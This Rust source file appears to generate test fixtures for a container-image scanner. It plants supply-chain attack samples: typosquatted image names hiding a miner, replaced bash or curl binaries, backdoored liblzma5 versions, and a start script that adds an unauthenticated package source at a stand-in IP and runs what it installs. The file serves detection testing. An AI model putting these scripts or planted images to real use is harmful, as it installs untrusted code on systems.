//! Names and packages that are not what they say.

use crate::group;
use crate::programs::miner;
use crate::shape::{Planted, Shape, malicious, suspicious};

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "supply chain",
        vec![
            malicious("imitated name on top of a hidden program", |s| {
                Planted::debian()
                    .script("usr/local/lib/.n/n", miner(s))
                    .entry(&["/usr/local/lib/.n/n"])
                    .named(s.pick(
                        "docker.io/c43602f9cc95/openjdk:0da242bd93b7f",
                        "docker.io/azurenql/nginx:latest",
                    ))
            }),
            suspicious("imitated publisher", |s| {
                Planted::debian()
                    .cmd(&["python3", "-m", "http.server"])
                    .named(s.pick("docker.io/azurenql/web:1", "ghrc.io/team/web:1"))
            }),
            malicious("program of a package replaced", |s| {
                let path = s.pick("usr/bin/bash", "usr/bin/curl");
                Planted::debian().script(path, miner(s)).entry(&[s.pick("bash", "/usr/bin/curl")])
            }),
            malicious("known backdoor in an installed library", |s| {
                let version = s.pick("5.6.1-1", "5.6.0-0.2");
                Planted::debian()
                .base(|layer| layer)
                .layer(|layer| {
                    layer.file(
                        "var/lib/dpkg/status",
                        0o644,
                        format!("Package: liblzma5\nStatus: install ok installed\nArchitecture: amd64\nSource: xz-utils\nVersion: {version}\n\n"),
                    )
                })
                .cmd(&["python3", "-m", "http.server"])
            }),
            suspicious("unsigned source of packages and what it brought", |s| {
                let script = s.pick(
                "#!/bin/sh\necho 'deb [trusted=yes] http://203.0.113.70/ ./' > /etc/apt/sources.list.d/x.list\napt-get update && apt-get install -y --allow-unauthenticated tool\ntool &\nexec \"$@\"\n",
                "#!/bin/sh\napk add --allow-untrusted http://203.0.113.70/tool.apk\ntool &\nexec \"$@\"\n",
            );
                Planted::debian().script("start.sh", script).entry(&["/start.sh"]).cmd(&[
                    "python3",
                    "-m",
                    "http.server",
                ])
            }),
        ],
    )
}
